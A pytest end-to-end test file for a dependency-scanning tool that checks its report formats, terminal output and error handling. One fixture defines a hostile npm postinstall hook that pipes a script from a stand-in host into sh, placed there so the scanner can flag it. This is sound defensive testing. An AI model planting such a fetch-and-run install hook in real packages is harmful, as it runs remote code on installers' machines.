"""What a run prints and writes."""

from __future__ import annotations

import json
import os
import pty
import subprocess
from pathlib import Path

import jsonschema
import pytest

from tests.end_to_end import locked
from tests.end_to_end.run import Machine, command
from tests.registry_simulator import RegistrySimulator

SARIF_SCHEMA = Path(__file__).parents[1] / "reports/sarif/fixtures/sarif-schema-2.1.0.json"
FETCHES = {"scripts": {"postinstall": "curl -s https://cdn.invalid/setup.sh | sh"}}
ESCAPE = "\x1b"


@pytest.fixture
def scanned(registry: RegistrySimulator, project: Path) -> Path:
    """A project of a dozen packages, enough for a progress bar, with one to block."""
    plain = [registry.publish(f"plain-thing-{number}") for number in range(11)]
    return locked.project_of(project, registry.publish("bad-thing", manifest=FETCHES), *plain)


def test_every_format_at_once_and_standard_output_beside(scanned: Path, machine: Machine, tmp_path: Path) -> None:
    names = ("r.txt", "r.json", "r.sarif", "r.html", "r.md", "r.cdx.json")
    outputs = [word for name in names for word in ("-o", tmp_path / name)]
    done = machine.scan(scanned, *outputs)
    assert (done.code, done.stderr) == (1, "")
    text = {name: (tmp_path / name).read_text(encoding="utf-8") for name in names}
    assert json.loads(text["r.json"]) == done.report
    assert ESCAPE not in text["r.txt"]
    assert "bad-thing@1.0.0" in text["r.txt"]
    assert text["r.html"].startswith("<!doctype html>")
    assert "<script src" not in text["r.html"]
    assert "bad-thing" in text["r.md"]
    bom = json.loads(text["r.cdx.json"])
    assert bom["bomFormat"] == "CycloneDX"
    assert {component["name"] for component in bom["components"]} >= {"bad-thing", "plain-thing-3"}

    sarif = json.loads(text["r.sarif"])
    jsonschema.Draft4Validator(json.loads(SARIF_SCHEMA.read_text(encoding="utf-8"))).validate(sarif)
    results = {result["ruleId"]: result for result in sarif["runs"][0]["results"]}
    place = results["install-script-fetches"]["locations"][0]["physicalLocation"]
    assert place["region"]["startLine"] == locked.line_of(scanned / "package-lock.json", "node_modules/bad-thing")
    assert place["artifactLocation"]["uri"].endswith("package-lock.json")


@pytest.mark.parametrize("name", ["terminal", "json", "sarif", "html", "markdown", "cyclonedx"])
def test_every_format_on_standard_output(name: str, scanned: Path, machine: Machine) -> None:
    done = machine.assay("scan", scanned, "--format", name)
    assert (done.code, done.stderr) == (1, "")
    assert "bad-thing" in done.stdout
    assert ESCAPE not in done.stdout
    if name in ("json", "sarif", "cyclonedx"):
        json.loads(done.stdout)


def test_the_published_schema_is_the_one_that_is_printed(machine: Machine) -> None:
    done = machine.assay("schema")
    assert done.code == 0
    published = Path(__file__).parents[2] / "docs/schema/report-v1.json"
    assert json.loads(done.stdout) == json.loads(published.read_text(encoding="utf-8"))


def test_the_terminal_report_never_says_clean(registry: RegistrySimulator, machine: Machine, project: Path) -> None:
    locked.project_of(project, registry.publish("plain-thing"))
    done = machine.assay("scan", project)
    assert done.code == 0
    assert "Nothing found in 1 of 1 package" in done.stdout
    assert "clean" not in done.stdout.lower()


def test_quiet_prints_nothing(scanned: Path, machine: Machine, tmp_path: Path) -> None:
    done = machine.assay("scan", scanned, "-q", "-o", tmp_path / "r.json")
    assert (done.code, done.stdout, done.stderr) == (1, "", "")
    assert json.loads((tmp_path / "r.json").read_text())["summary"]["blocked"] == 1


@pytest.mark.parametrize(
    ("file", "message"),
    [("report.docx", "the ending does not tell the format"), ("missing/report.json", "there is no folder")],
)
def test_an_output_that_cannot_be_is_refused_before_any_work(
    file: str, message: str, scanned: Path, machine: Machine, registry: RegistrySimulator
) -> None:
    done = machine.assay("scan", scanned, "-o", file)
    assert (done.code, done.stdout) == (2, "")
    assert message in done.stderr
    assert registry.requests == []


def test_an_output_that_cannot_be_written_does_not_lose_the_others(
    scanned: Path, machine: Machine, tmp_path: Path
) -> None:
    (tmp_path / "taken.json").mkdir()
    done = machine.assay("scan", scanned, "-o", tmp_path / "taken.json", "-o", tmp_path / "r.md")
    assert done.code == 2
    assert "cannot write" in done.stderr
    assert "bad-thing" in done.stdout
    assert "bad-thing" in (tmp_path / "r.md").read_text()


def test_on_a_terminal_there_are_colours_and_a_progress_bar(scanned: Path, machine: Machine) -> None:
    shown = on_terminal(machine, {"TERM": "xterm-256color"}, "scan", scanned, "--no-cache")
    assert "checking" in shown
    assert f"{ESCAPE}[" in shown
    assert "bad-thing@1.0.0" in shown


def test_no_color_is_honoured_on_a_terminal(scanned: Path, machine: Machine) -> None:
    shown = on_terminal(machine, {"TERM": "xterm-256color", "NO_COLOR": "1"}, "check", "bad-thing")
    assert "bad-thing@1.0.0" in shown
    assert f"{ESCAPE}[3" not in shown
    assert f"{ESCAPE}[1;3" not in shown


def test_a_reader_that_goes_away_is_no_crash(scanned: Path, machine: Machine) -> None:
    reading, writing = os.pipe()
    os.close(reading)
    done = subprocess.run(
        command("scan", scanned, "--format", "json"),
        stdout=writing,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
        env=machine.environment(),
        cwd=machine.home,
        text=True,
    )
    os.close(writing)
    assert "Traceback" not in done.stderr


def on_terminal(machine: Machine, env: dict[str, str], *words: str | Path) -> str:
    """Run the command on a terminal of its own and return everything that it shows."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        command(*words),
        stdin=subprocess.DEVNULL,
        stdout=theirs,
        stderr=theirs,
        env=machine.environment(env),
        cwd=machine.home,
    )
    os.close(theirs)
    shown = bytearray()
    try:
        while data := os.read(ours, 65536):
            shown += data
    except OSError:
        pass  # Linux says so when the last writer is gone
    finally:
        os.close(ours)
        process.wait(60)
    return shown.decode()
